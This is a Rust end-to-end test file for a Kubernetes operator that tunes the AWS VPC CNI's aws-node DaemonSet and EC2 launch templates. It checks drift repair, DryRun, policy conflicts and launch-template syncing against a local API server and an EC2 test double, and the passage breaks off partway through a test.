//! End to end: the shipped binary (`vpc-cni-tuner run`, as a process) against a real
//! kube-apiserver + etcd (tests/support/envtest.rs) and, for AWS, `moto_server`, all on 127.0.0.1.
//!
//! The operator runs with the Helm chart's arguments and environment, as the chart's
//! ServiceAccount (impersonated) with the chart's rendered RBAC: a call the chart does not grant
//! keeps a scenario from converging. Tests assert only through the API server and EC2. Each test
//! has its own API server. Without KUBEBUILDER_ASSETS they skip (with CI=true they fail).

// The crate lints functions over 100 lines; scenarios read top to bottom as one script against the real API server.
#![allow(clippy::too_many_lines)]
#![allow(clippy::expect_used, clippy::unwrap_used)]

mod support;

use std::collections::BTreeMap;
use std::future::Future;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use k8s_openapi::api::apps::v1::DaemonSet;
use k8s_openapi::api::coordination::v1::Lease;
use k8s_openapi::api::core::v1::{EnvVar, Node};
use k8s_openapi::api::events::v1::Event;
use k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition;
use kube::api::{
    Api, ApiResource, DynamicObject, GroupVersionKind, ListParams, Patch, PatchParams, PostParams,
};
use kube::{Client, ResourceExt};
use serde_json::{Value, json};
use support::eks_double::{self, EksDouble};
use support::envtest::{ApiServer, ListMode};
use support::operator::{ChartContainer, Operator};
use vpc_cni_tuner::crd::{NodeNetworkPolicy, conditions};
use vpc_cni_tuner::testing::{EKS_ADDON_ENV, aws_node_ds};

const NS: &str = "vpc-cni-tuner";
const RELEASE: &str = "vpc-cni-tuner";
const ROOT: &str = env!("CARGO_MANIFEST_DIR");
const CONVERGE: Duration = Duration::from_secs(60);

/// An EKS-shaped aws-node DaemonSet (VPC CNI v1.19.2 add-on): an init container, the aws-node
/// and network-policy agent containers, literal and downward-API env, host paths.
fn eks_aws_node() -> Value {
    serde_json::to_value(aws_node_ds(EKS_ADDON_ENV, &[])).unwrap()
}

/// A real API server with the CRD (applied as users do, `kubectl apply -f crds/`), an EKS-shaped
/// aws-node, and the chart's RBAC and admission policies for the operator's ServiceAccount: every
/// scenario runs with the policies in place.
struct Cluster {
    api: ApiServer,
    admin: Client,
    rendered: Vec<Value>,
    operator_kubeconfig: PathBuf,
    logs: tempfile::TempDir,
}

impl Cluster {
    /// aws-node as a self-managed VPC CNI has it (installed by Helm 3, a client-side create):
    /// DaemonSet mode.
    async fn start(values: Value) -> Option<Self> {
        Self::start_with(values, "helm").await
    }

    /// The chart configured for EC2 at `moto` (region us-east-1).
    async fn start_with_ec2(moto: &support::MotoServer) -> Option<Self> {
        Self::start(json!({
            "aws": {"region": "us-east-1", "ec2EndpointUrl": moto.endpoint()}
        }))
        .await
    }

    /// An m5.large Node of pool `pool` running EC2 instance `instance` (its `providerID`).
    async fn ec2_node(&self, name: &str, pool: &str, instance: &str) {
        let nodes: Api<Node> = Api::all(self.admin.clone());
        let node = json!({
            "metadata": {"name": name, "labels":
                {"pool": pool, "node.kubernetes.io/instance-type": "m5.large"}},
            "spec": {"providerID": format!("aws:///us-east-1a/{instance}")}
        });
        nodes
            .create(
                &PostParams::default(),
                &serde_json::from_value(node).unwrap(),
            )
            .await
            .unwrap();
    }

    /// The chart configured for EC2 at `moto`, with rollouts on.
    async fn start_with_rollouts(moto: &support::MotoServer) -> Option<Self> {
        Self::start(json!({
            "aws": {"region": "us-east-1", "ec2EndpointUrl": moto.endpoint()},
            "rollout": {"enabled": true}
        }))
        .await
    }

    /// The chart's webhook configuration, pointed at `https://127.0.0.1:PORT/mutate` (the
    /// chart points it at its Service), created as an admin; its API.
    async fn webhook_configuration(
        &self,
        port: u16,
    ) -> Api<k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration> {
        let mut configuration = self
            .rendered
            .iter()
            .find(|o| o["kind"] == "MutatingWebhookConfiguration")
            .cloned()
            .expect("the chart renders the webhook configuration");
        configuration["webhooks"][0]["clientConfig"] =
            json!({"url": format!("https://127.0.0.1:{port}/mutate")});
        let api = Api::all(self.admin.clone());
        api.create(
            &PostParams::default(),
            &serde_json::from_value(configuration).unwrap(),
        )
        .await
        .unwrap();
        api
    }

    /// The operator serving the webhook on 127.0.0.1:`port`, with `flags` besides.
    fn webhook_operator(&self, name: &str, port: u16, flags: &[(&str, String)]) -> Operator {
        let mut all = vec![
            ("--webhook-addr", format!("127.0.0.1:{port}")),
            ("--webhook-hosts", "127.0.0.1".to_owned()),
        ];
        all.extend(flags.iter().cloned());
        self.operator_with(name, &[], &all)
    }

    /// aws-node created by `aws_node_manager` (`helm` for a self-managed VPC CNI); `eks` applies
    /// it server-side, as EKS does.
    async fn start_with(values: Value, aws_node_manager: &str) -> Option<Self> {
        Self::start_listing(values, Some(aws_node_manager), ListMode::Streaming).await
    }

    /// As [`Cluster::start_with`], on an API server that serves initial lists as `list_mode`;
    /// without a manager, no aws-node (the test installs its own).
    async fn start_listing(
        values: Value,
        aws_node_manager: Option<&str>,
        list_mode: ListMode,
    ) -> Option<Self> {
        let api = ApiServer::start_with(list_mode).await?;
        let admin = api.client().await;
        kubectl_ok(&api, &["apply", "-f", &format!("{ROOT}/crds/")]);
        wait_established(&api, &["crd/nodenetworkpolicies.tuner.vpccni.io"]);
        kubectl_ok(&api, &["create", "namespace", NS]);
        let mut values = values;
        values["crds"] = json!({"install": false});
        let rendered =
            support::chart::render_with(&values, &["--name", RELEASE, "--namespace", NS]);
        let rbac: Vec<Value> = rendered
            .iter()
            .filter(|o| {
                [
                    "ServiceAccount",
                    "ClusterRole",
                    "ClusterRoleBinding",
                    "Role",
                    "RoleBinding",
                    "ValidatingAdmissionPolicy",
                    "ValidatingAdmissionPolicyBinding",
                ]
                .contains(&o["kind"].as_str().unwrap())
            })
            .cloned()
            .collect();
        let logs = tempfile::tempdir().unwrap();
        apply_objects(&api, &logs, &rbac, &[]);
        let account = rbac
            .iter()
            .find(|o| o["kind"] == "ServiceAccount")
            .map(|o| o["metadata"]["name"].as_str().unwrap().to_owned())
            .expect("the chart renders a ServiceAccount");
        let operator_kubeconfig =
            api.kubeconfig_as(&format!("system:serviceaccount:{NS}:{account}"));
        if aws_node_manager.is_none() {
        } else if aws_node_manager == Some("eks") {
            daemonsets(&admin)
                .patch(
                    "aws-node",
                    &PatchParams::apply("eks").force(),
                    &Patch::Apply(eks_aws_node()),
                )
                .await
                .unwrap();
        } else {
            // Helm 3 and `kubectl apply` create it client-side: their values are theirs by an
            // Update, which the operator may take (and must not fight over).
            let post = PostParams {
                field_manager: aws_node_manager.map(str::to_owned),
                ..Default::default()
            };
            daemonsets(&admin)
                .create(&post, &serde_json::from_value(eks_aws_node()).unwrap())
                .await
                .unwrap();
        }
        Some(Self {
            api,
            admin,
            rendered,
            operator_kubeconfig,
            logs,
        })
    }

    /// `vpc-cni-tuner run` as the chart's pod `name` would run it.
    fn operator(&self, name: &str, extra_env: &[(&str, String)]) -> Operator {
        self.operator_with(name, extra_env, &[])
    }

    /// [`Cluster::operator`] with some of the chart's `--flag=value` arguments replaced (or
    /// added).
    fn operator_with(
        &self,
        name: &str,
        extra_env: &[(&str, String)],
        flags: &[(&str, String)],
    ) -> Operator {
        let mut container = ChartContainer::from_rendered(&self.rendered, NS, name);
        // Scenarios wait for node counts in the status: count-only changes are paced by 1 s
        // here, not the chart's 60 s (the churn scenario runs with 60 s).
        let pacing = [("--status-count-seconds", "1".to_owned())];
        for (flag, value) in pacing.iter().chain(flags) {
            container
                .args
                .retain(|a| !a.starts_with(&format!("{flag}=")));
            container.args.push(format!("{flag}={value}"));
        }
        let mut env = no_aws();
        env.extend(extra_env.iter().cloned());
        Operator::start(
            &container,
            &self.operator_kubeconfig,
            &env,
            self.logs.path(),
            name,
        )
    }

    async fn node(&self, name: &str, labels: Value) {
        let nodes: Api<Node> = Api::all(self.admin.clone());
        nodes
            .create(
                &PostParams::default(),
                &serde_json::from_value(json!({"metadata": {"name": name, "labels": labels}}))
                    .unwrap(),
            )
            .await
            .unwrap();
    }

    /// One m5.large node and the policy `all` with `spec` selecting it.
    async fn single_node_fleet(&self, spec: Value) {
        self.node(
            "n-1",
            json!({"node.kubernetes.io/instance-type": "m5.large"}),
        )
        .await;
        self.policy("all", spec).await;
    }

    /// Waits until the policy `all` has a `type_` condition that `matches`, and returns it.
    async fn wait_for_condition(
        &self,
        type_: &str,
        operator: &Operator,
        matches: impl Fn(&k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition) -> bool,
    ) -> k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition {
        eventually(
            &format!("a matching {type_} condition"),
            CONVERGE,
            &[operator],
            || async {
                let p = self.get_policy("all").await;
                condition_of(&p, type_).filter(|c| matches(c)).cloned()
            },
        )
        .await
    }

    /// An m5.large node `name` joins; waits until the policy `all` counts `matched` nodes.
    async fn node_joins(&self, name: &str, matched: u32, operator: &Operator) {
        self.node(
            name,
            json!({"node.kubernetes.io/instance-type": "m5.large"}),
        )
        .await;
        eventually("the new node is counted", CONVERGE, &[operator], || async {
            let p = self.get_policy("all").await;
            (p.status.as_ref().unwrap().matched_nodes == matched).then_some(())
        })
        .await;
    }

    async fn policy(&self, name: &str, spec: Value) {
        policies(&self.admin)
            .create(
                &PostParams::default(),
                &serde_json::from_value(json!({
                    "apiVersion": "tuner.vpccni.io/v1alpha1", "kind": "NodeNetworkPolicy",
                    "metadata": {"name": name}, "spec": spec
                }))
                .unwrap(),
            )
            .await
            .unwrap();
    }

    /// A person edits the aws-node env (`kubectl set env`), as drift.
    async fn edit_env(&self, name: &str, value: &str) {
        let patch = json!({"spec": {"template": {"spec": {"containers": [
            {"name": "aws-node", "env": [{"name": name, "value": value}]}]}}}});
        daemonsets(&self.admin)
            .patch(
                "aws-node",
                &PatchParams {
                    field_manager: Some("kubectl-set".into()),
                    ..Default::default()
                },
                &Patch::Strategic(patch),
            )
            .await
            .unwrap();
    }

    async fn aws_node_env(&self) -> Vec<EnvVar> {
        container(
            &daemonsets(&self.admin).get("aws-node").await.unwrap(),
            "aws-node",
        )
        .env
        .unwrap_or_default()
    }

    async fn env_value(&self, name: &str) -> Option<String> {
        self.aws_node_env()
            .await
            .into_iter()
            .find(|e| e.name == name)
            .and_then(|e| e.value)
    }

    /// Waits until aws-node's container env has `name=value`.
    async fn wait_for_env(
        &self,
        name: &str,
        value: &str,
        what: &str,
        timeout: Duration,
        operators: &[&Operator],
    ) {
        eventually(what, timeout, operators, || async {
            (self.env_value(name).await.as_deref() == Some(value)).then_some(())
        })
        .await
    }

    async fn get_policy(&self, name: &str) -> NodeNetworkPolicy {
        policies(&self.admin).get(name).await.unwrap()
    }

    /// Events about policy `name` (in `default`, where Events about cluster-scoped objects go).
    async fn events(&self, policy: &str) -> Vec<Event> {
        let events: Api<Event> = Api::namespaced(self.admin.clone(), "default");
        events
            .list(&ListParams::default())
            .await
            .unwrap()
            .items
            .into_iter()
            .filter(|e| e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(policy))
            .collect()
    }

    /// Waits until an Event with `reason` about policy `policy` exists.
    async fn wait_for_event(&self, policy: &str, reason: &str, operators: &[&Operator]) {
        eventually(
            &format!("a {reason} Event"),
            CONVERGE,
            operators,
            || async {
                self.events(policy)
                    .await
                    .iter()
                    .any(|e| e.reason.as_deref() == Some(reason))
                    .then_some(())
            },
        )
        .await;
    }
}

fn daemonsets(client: &Client) -> Api<DaemonSet> {
    Api::namespaced(client.clone(), "kube-system")
}

fn policies(client: &Client) -> Api<NodeNetworkPolicy> {
    Api::all(client.clone())
}

fn container(ds: &DaemonSet, name: &str) -> k8s_openapi::api::core::v1::Container {
    let spec = ds.spec.as_ref().unwrap().template.spec.as_ref().unwrap();
    spec.containers
        .iter()
        .find(|c| c.name == name)
        .cloned()
        .unwrap_or_else(|| panic!("no container {name}"))
}

/// AWS settings that keep any AWS call on 127.0.0.1: no instance metadata, no profile files.
/// With no region either, an EC2 call fails at once (`NoAwsRegion`) without leaving the host.
fn no_aws() -> Vec<(&'static str, String)> {
    vec![
        ("AWS_EC2_METADATA_DISABLED", "true".into()),
        ("AWS_CONFIG_FILE", "/dev/null".into()),
        ("AWS_SHARED_CREDENTIALS_FILE", "/dev/null".into()),
    ]
}

fn condition_of<'a>(
    policy: &'a NodeNetworkPolicy,
    type_: &str,
) -> Option<&'a k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition> {
    policy
        .status
        .as_ref()?
        .conditions
        .iter()
        .find(|c| c.type_ == type_)
}

fn is_true(policy: &NodeNetworkPolicy, type_: &str) -> bool {
    condition_of(policy, type_).is_some_and(|c| c.status == "True")
}

/// Polls `probe` every 250 ms until it gives a value; fails with the operators' logs after
/// `timeout`.
async fn eventually<T, F, Fut>(
    what: &str,
    timeout: Duration,
    operators: &[&Operator],
    mut probe: F,
) -> T
where
    F: FnMut() -> Fut,
    Fut: Future<Output = Option<T>>,
{
    let deadline = Instant::now() + timeout;
    loop {
        if let Some(value) = probe().await {
            return value;
        }
        if Instant::now() > deadline {
            let logs: Vec<String> = operators.iter().map(|o| o.diagnostics()).collect();
            panic!("{what}: not within {timeout:?}\n{}", logs.join("\n"));
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

/// `kubectl wait --for=condition=Established` on `crds`, again while the API server has not
/// written a CRD's status yet (kubectl then fails at once: `.status.conditions accessor error`).
fn wait_established(api: &ApiServer, crds: &[&str]) {
    let mut args = vec!["wait", "--for=condition=Established", "--timeout=60s"];
    args.extend_from_slice(crds);
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let output = api.kubectl(&args);
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        if output.status.success() {
            return;
        }
        assert!(
            stderr.contains("accessor error") && Instant::now() < deadline,
            "kubectl {}: {stderr}",
            args.join(" ")
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn kubectl_ok(api: &ApiServer, args: &[&str]) -> String {
    let output = api.kubectl(args);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        output.status.success(),
        "kubectl {}: {stderr}",
        args.join(" ")
    );
    stderr
}

/// `kubectl apply` of `objects` (extra flags: `--dry-run=server`, ...); returns kubectl's stderr,
/// where the API server's warnings appear.
fn apply_objects(
    api: &ApiServer,
    dir: &tempfile::TempDir,
    objects: &[Value],
    flags: &[&str],
) -> String {
    let file = dir
        .path()
        .join(format!("objects-{}.json", support::free_port()));
    let list = json!({"apiVersion": "v1", "kind": "List", "items": objects});
    std::fs::write(&file, list.to_string()).unwrap();
    let mut args = vec!["apply", "-f", file.to_str().unwrap()];
    args.extend_from_slice(flags);
    kubectl_ok(api, &args)
}

fn assert_no_warnings(what: &str, stderr: &str) {
    assert!(
        !stderr.to_lowercase().contains("warning"),
        "{what} printed warnings:\n{stderr}"
    );
}

/// First apply on an EKS-shaped aws-node, a Xen node lowering maxPods, Fargate / Windows /
/// hybrid nodes left out, drift repaired, the Argo CD health of the status the server holds, no
/// AWS call without launch templates, and a clean exit on SIGTERM. The API server streams the
/// initial Node list (etcd 3.6, WatchList on, as on EKS and Kubernetes 1.32 and 1.34+).
#[tokio::test]
async fn first_apply_xen_excluded_nodes_drift_and_argo_health() {
    first_apply_scenario(ListMode::Streaming).await;
}

/// The same scenario where the API server refuses streaming lists (`WatchList=false`, the
/// default of Kubernetes 1.27-1.31 and 1.33): the operator falls back to paged lists.
#[tokio::test]
async fn first_apply_on_paged_lists() {
    first_apply_scenario(ListMode::Paged).await;
}

/// The operator's log and its `node_initial_list` metric say which initial list it used, and
/// the log that the API server answered in protobuf.
fn assert_list_mode(operator: &Operator, list_mode: ListMode) {
    let log = operator.log();
    let listed = format!(r#""mode":"{}""#, list_mode.label());
    assert!(
        log.contains("listed nodes") && log.contains(&listed),
        "{listed} in the log:\n{log}"
    );
    // Both modes list in protobuf (src/observe/node_wire.rs) on a real API server.
    assert!(
        log.lines()
            .any(|l| l.contains("listed nodes") && l.contains(r#""encoding":"protobuf""#)),
        "the Node list in protobuf:\n{log}"
    );
    let refused = log.contains("does not serve streaming lists");
    assert_eq!(refused, list_mode == ListMode::Paged, "{log}");
    let metrics = support::http_get(operator.admin_port, "/metrics")
        .expect("metrics")
        .1;
    let gauge = format!(
        r#"vpc_cni_tuner_node_initial_list{{mode="{}"}} 1"#,
        list_mode.label()
    );
    assert!(
        metrics.lines().any(|l| l == gauge),
        "{gauge} in the metrics:\n{metrics}"
    );
    assert_eq!(
        metrics
            .lines()
            .filter(|l| l.starts_with("vpc_cni_tuner_node_initial_list{"))
            .count(),
        1,
        "one list mode at a time:\n{metrics}"
    );
    assert_alerts_and_dashboard_use_exported_metrics(&metrics);
}

async fn first_apply_scenario(list_mode: ListMode) {
    let Some(cluster) = Cluster::start_listing(json!({}), Some("helm"), list_mode).await else {
        return;
    };
    let before = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    let web = |extra: Value| {
        let mut labels = json!({"pool": "web", "node.kubernetes.io/instance-type": "m5.large"});
        labels
            .as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        labels
    };
    for (name, extra) in [
        ("web-1", json!({})),
        ("web-2", json!({})),
        (
            "web-xen",
            json!({"node.kubernetes.io/instance-type": "m4.large"}),
        ),
        (
            "fargate-ip-10-0-1-1",
            json!({"eks.amazonaws.com/compute-type": "fargate"}),
        ),
        ("win-1", json!({"kubernetes.io/os": "windows"})),
        (
            "mi-0123456789abcdef0",
            json!({"eks.amazonaws.com/compute-type": "hybrid"}),
        ),
    ] {
        cluster.node(name, web(extra)).await;
    }
    cluster
        .policy(
            "web",
            json!({"nodeSelector": {"matchLabels": {"pool": "web"}}}),
        )
        .await;
    let mut operator = cluster.operator("tuner-0", &[]);

    let policy = eventually("policy web Ready", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("web").await;
        (is_true(&p, conditions::READY)
            && p.status.as_ref().and_then(|s| s.observed_generation) == Some(1))
        .then_some(p)
    })
    .await;
    assert_list_mode(&operator, list_mode);
    let status = policy.status.clone().unwrap();
    // m4.large is Xen: no prefix delegation, 2 ENIs x (10 - 1) + 2 = 20; m5.large gets 110.
    assert_eq!(status.max_pods, Some(20));
    assert_eq!(status.matched_nodes, 3);
    assert_eq!(status.prefix_delegation, Some(true));
    let xen = status
        .instance_types
        .iter()
        .find(|t| t.instance_type == "m4.large")
        .unwrap();
    assert!(!xen.prefix_delegation);
    assert_eq!(
        status.excluded_nodes,
        [("Fargate", 1), ("HybridNode", 1), ("Windows", 1)]
            .into_iter()
            .map(|(k, v)| (k.to_owned(), v))
            .collect()
    );

    let env = cluster.aws_node_env().await;
    let value = |name: &str| {
        env.iter()
            .find(|e| e.name == name)
            .and_then(|e| e.value.clone())
    };
    assert_eq!(value("ENABLE_PREFIX_DELEGATION").as_deref(), Some("true"));
    assert_eq!(value("WARM_PREFIX_TARGET").as_deref(), Some("1"));
    // Nothing the operator does not own changed: foreign env (literal and valueFrom), the other
    // containers, the init container, volumes, labels.
    let original = container(&before, "aws-node").env.unwrap();
    for entry in original.iter().filter(|e| {
        ![
            "ENABLE_PREFIX_DELEGATION",
            "WARM_PREFIX_TARGET",
            "WARM_ENI_TARGET",
        ]
        .contains(&e.name.as_str())
    }) {
        assert!(env.contains(entry), "{} changed or lost", entry.name);
    }
    let after = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    let (b, a) = (
        before
            .spec
            .as_ref()
            .unwrap()
            .template
            .spec
            .as_ref()
            .unwrap(),
        after.spec.as_ref().unwrap().template.spec.as_ref().unwrap(),
    );
    assert_eq!(a.init_containers, b.init_containers);
    assert_eq!(a.volumes, b.volumes);
    assert_eq!(
        container(&after, "aws-eks-nodeagent"),
        container(&before, "aws-eks-nodeagent")
    );
    assert_eq!(after.metadata.labels, before.metadata.labels);
    let ours = after
        .managed_fields()
        .iter()
        .find(|m| m.manager.as_deref() == Some("vpc-cni-tuner"))
        .expect("the operator's field manager")
        .fields_v1
        .clone()
        .unwrap()
        .0;
    let owned_containers = &ours["f:spec"]["f:template"]["f:spec"]["f:containers"];
    assert_eq!(
        owned_containers
            .as_object()
            .unwrap()
            .keys()
            .collect::<Vec<_>>(),
        vec!["k:{\"name\":\"aws-node\"}"],
        "owns fields of the aws-node container only: {ours}"
    );

    let events = cluster.events("web").await;
    assert!(
        events
            .iter()
            .any(|e| e.reason.as_deref() == Some("AwsNodeEnvUpdated")
                && e.reporting_instance.as_deref() == Some("tuner-0")),
        "an AwsNodeEnvUpdated Event: {events:?}"
    );
    // The Xen node is a Degraded condition, which Argo CD shows with its message.
    assert!(is_true(&policy, conditions::DEGRADED));
    let (health, message) = support::argocd::health(&serde_json::to_value(&policy).unwrap());
    assert_eq!(health, "Degraded", "{message}");
    assert!(message.contains("m4.large"), "{message}");

    // Drift: somebody turns prefix delegation off; the operator puts it back.
    cluster.edit_env("ENABLE_PREFIX_DELEGATION", "false").await;
    cluster
        .wait_for_env(
            "ENABLE_PREFIX_DELEGATION",
            "true",
            "drift repaired",
            CONVERGE,
            &[&operator],
        )
        .await;
    cluster
        .wait_for_event("web", "AwsNodeEnvRestored", &[&operator])
        .await;
    assert_eq!(
        cluster
            .env_value("AWS_VPC_K8S_CNI_LOGLEVEL")
            .await
            .as_deref(),
        Some("DEBUG")
    );

    let log = operator.log();
    assert!(
        !log.contains("EC2") && !log.contains("instance-type lookup"),
        "no launch templates and no unknown types: no AWS call\n{log}"
    );
    let exit = operator.terminate(Duration::from_secs(20));
    assert!(
        exit.is_some_and(|s| s.success()),
        "exits 0 on SIGTERM: {exit:?}\n{}",
        operator.log()
    );
}

/// DryRun writes nothing to aws-node; of two Enforce policies that want different env the older
/// wins and the newer reports the Conflict (Argo CD: Degraded), while the winner is Healthy.
/// The binary as the chart runs it, with a debounce of a minute: the first plan comes as soon
/// as the watches have listed, and a later change waits for the debounce.
#[tokio::test]
async fn the_first_plan_runs_without_the_debounce_and_later_changes_wait() {
    let Some(cluster) = Cluster::start_with(json!({}), "helm").await else {
        return;
    };
    cluster.single_node_fleet(json!({})).await;
    let operator = cluster.operator_with("tuner-0", &[], &[("--debounce-millis", "60000".into())]);
    let ready = eventually(
        "Ready within 20 s with a 60 s debounce",
        Duration::from_secs(20),
        &[&operator],
        || async {
            let p = cluster.get_policy("all").await;
            condition_of(&p, "Ready")
                .filter(|c| c.status == "True")
                .map(|_| p.clone())
        },
    )
    .await;
    assert_eq!(ready.status.as_ref().unwrap().matched_nodes, 1);
    // A second node is a change to a planned fleet: not counted before the debounce ends.
    cluster
        .node(
            "n-2",
            json!({"node.kubernetes.io/instance-type": "m5.large"}),
        )
        .await;
    tokio::time::sleep(Duration::from_secs(3)).await;
    let p = cluster.get_policy("all").await;
    assert_eq!(
        p.status.as_ref().unwrap().matched_nodes,
        1,
        "the new node waits for the debounce:\n{}",
        operator.log()
    );
}

#[tokio::test]
async fn dry_run_writes_nothing_and_conflicting_policies_report_conflict() {
    // A self-managed VPC CNI (its Helm chart), so the winner has nothing to warn about.
    let Some(cluster) = Cluster::start_with(json!({}), "helm").await else {
        return;
    };
    let before = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    for (name, pool, instance_type) in [
        ("a-1", "a", "m5.large"),
        ("a-2", "a", "m5.large"),
        ("b-1", "b", "m5.xlarge"),
    ] {
        cluster
            .node(
                name,
                json!({"pool": pool, "node.kubernetes.io/instance-type": instance_type}),
            )
            .await;
    }
    cluster
        .policy(
            "preview",
            json!({"enforcement": "DryRun", "nodeSelector": {"matchLabels": {"pool": "a"}}}),
        )
        .await;
    let operator = cluster.operator("tuner-0", &[]);
    let preview = eventually("DryRun status", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("preview").await;
        (p.status.as_ref().and_then(|s| s.observed_generation) == Some(1)).then_some(p)
    })
    .await;
    let status = preview.status.unwrap();
    assert_eq!(
        status
            .cni_env
            .get("ENABLE_PREFIX_DELEGATION")
            .map(String::as_str),
        Some("true"),
        "the status shows what would be written"
    );
    // Give the operator a resync's worth of chances to write anyway.
    tokio::time::sleep(Duration::from_secs(3)).await;
    let after = daemonsets(&cluster.admin).get("aws-node").await.unwrap();
    assert_eq!(
        after.metadata.resource_version, before.metadata.resource_version,
        "DryRun wrote to aws-node"
    );
    assert!(
        cluster.events("preview").await.iter().all(|e| !e
            .reason
            .as_deref()
            .unwrap_or_default()
            .starts_with("AwsNodeEnv")),
        "no aws-node Event under DryRun"
    );
    policies(&cluster.admin)
        .delete("preview", &Default::default())
        .await
        .unwrap();

    // Two Enforce policies for the one aws-node, wanting different warm pools.
    cluster
        .policy(
            "older",
            json!({"nodeSelector": {"matchLabels": {"pool": "a"}},
                   "warmPool": {"profile": "ConserveIPs"}}),
        )
        .await;
    // Creation timestamps have one-second resolution.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    cluster
        .policy(
            "newer",
            json!({"nodeSelector": {"matchLabels": {"pool": "b"}},
                   "warmPool": {"profile": "FastScaling"}}),
        )
        .await;
    let (older, newer) = eventually("conflict reported", CONVERGE, &[&operator], || async {
        let older = cluster.get_policy("older").await;
        let newer = cluster.get_policy("newer").await;
        (is_true(&newer, conditions::CONFLICT) && is_true(&older, conditions::READY))
            .then_some((older, newer))
    })
    .await;
    assert!(!is_true(&older, conditions::CONFLICT));
    let conflict = condition_of(&newer, conditions::CONFLICT).unwrap();
    assert!(conflict.message.contains("older"), "{}", conflict.message);
    // aws-node carries the older policy's env.
    let env = cluster.aws_node_env().await;
    for (name, value) in &older.status.as_ref().unwrap().cni_env {
        assert!(
            env.iter()
                .any(|e| &e.name == name && e.value.as_ref() == Some(value)),
            "{name}={value} of the winning policy on aws-node"
        );
    }
    let (health, message) = support::argocd::health(&serde_json::to_value(&newer).unwrap());
    assert_eq!(health, "Degraded", "{message}");
    let (health, message) = support::argocd::health(&serde_json::to_value(&older).unwrap());
    assert_eq!(health, "Healthy", "{message}");
}

/// The DescribeInstanceTypes record of p3.2xlarge: 8 vCPUs, Xen, one card with 4 ENIs x 15 IPv4
/// (amazon-vpc-cni-k8s `pkg/vpc/vpc_ip_resource_limit.go`). A real, retired type: neither moto's
/// catalog nor the embedded table has it, so only the live lookup can plan for it.
fn p3_2xlarge() -> Value {
    json!({"p3.2xlarge": {
        "InstanceType": "p3.2xlarge", "CurrentGeneration": false, "BareMetal": false,
        "Hypervisor": "xen",
        "VCpuInfo": {"DefaultVCpus": 8, "DefaultCores": 4, "DefaultThreadsPerCore": 2},
        "MemoryInfo": {"SizeInMiB": 62464},
        "NetworkInfo": {
            "NetworkPerformance": "Up to 10 Gigabit", "MaximumNetworkInterfaces": 4,
            "MaximumNetworkCards": 1, "DefaultNetworkCardIndex": 0,
            "NetworkCards": [{"NetworkCardIndex": 0, "NetworkPerformance": "Up to 10 Gigabit",
                              "MaximumNetworkInterfaces": 4}],
            "Ipv4AddressesPerInterface": 15, "Ipv6AddressesPerInterface": 15,
            "Ipv6Supported": true, "EnaSupport": "supported", "EfaSupported": false
        }
    }})
}

/// Launch templates on moto for AL2023, AL2 and Bottlerocket: maxPods written, everything else
/// kept, the default version moved where asked, status and Events right, and a second operator
/// run creating nothing. The fleet has a type only the live `DescribeInstanceTypes` knows.
#[tokio::test]
async fn launch_templates_sync_through_the_binary_and_live_lookup() {
    use support::launch_templates::{
        AL2, AL2023, BOTTLEROCKET, create_template, default_version, versions,
    };
    use vpc_cni_tuner::userdata::read_max_pods;

    let scratch = tempfile::tempdir().unwrap();
    let moto = support::MotoServer::start_with_instance_types(&p3_2xlarge(), scratch.path());
    let Some(cluster) = Cluster::start_with_ec2(&moto).await else {
        return;
    };
    let ec2 = moto.ec2_client();
    let al2023 = create_template(&ec2, "al2023-nodes", AL2023.as_bytes()).await;
    let al2 = create_template(&ec2, "al2-nodes", AL2.as_bytes()).await;
    let bottlerocket = create_template(&ec2, "bottlerocket-nodes", BOTTLEROCKET.as_bytes()).await;

    // A running instance launched from the AL2023 template, registered as a Node whose kubelet
    // still has the old maxPods (29): the rollout report counts it.
    let instance = support::launch_templates::run_instance(&ec2, &al2023).await;
    cluster.ec2_node("gpu-1", "gpu", &instance).await;
    set_capacity(&cluster, "gpu-1", 29).await;
    cluster
        .node(
            "gpu-2",
            json!({"pool": "gpu", "node.kubernetes.io/instance-type": "p3.2xlarge"}),
        )
        .await;
    cluster
        .policy(
            "gpu",
            json!({"nodeSelector": {"matchLabels": {"pool": "gpu"}}, "launchTemplates": [
                {"id": al2023, "setDefaultVersion": true},
                {"id": al2, "setDefaultVersion": false},
                {"id": bottlerocket, "setDefaultVersion": true}]}),
        )
        .await;
    // Who launches from them: an Auto Scaling group (AL2023, $Default) and a managed node group
    // of cluster prod (AL2, version 1).
    moto.launchers("web", &al2023, "$Default", &al2).await;
    let mut aws_env = moto.aws_env();
    aws_env.push(("EKS_CLUSTER_NAME", "prod".to_owned()));
    let mut operator = cluster.operator("tuner-0", &aws_env);
    let policy = eventually("LaunchTemplatesSynced", CONVERGE, &[&operator], || async {
        let p = cluster.get_policy("gpu").await;
        is_true(&p, conditions::LAUNCH_TEMPLATES_SYNCED).then_some(p)
    })
    .await;
    let status = policy.status.clone().unwrap();
    // p3.2xlarge (Xen, live): 4 x (15 - 1) + 2 = 58 bounds the group.
    let p3 = status
        .instance_types
        .iter()
        .find(|t| t.instance_type == "p3.2xlarge")
        .expect("the live type is planned");
    assert_eq!(p3.max_pods, 58);
    assert_eq!(status.max_pods, Some(58));
    assert!(is_true(&policy, conditions::READY));

    for (id, set_default) in [(&al2023, true), (&al2, false), (&bottlerocket, true)] {
        let all = versions(&ec2, id).await;
        assert_eq!(all.len(), 2, "{id}: one new version");
        let source = all.iter().find(|v| v.version_number() == Some(1)).unwrap();
        let written = all.iter().find(|v| v.version_number() == Some(2)).unwrap();
        let (old, new) = (
            source.launch_template_data().unwrap(),
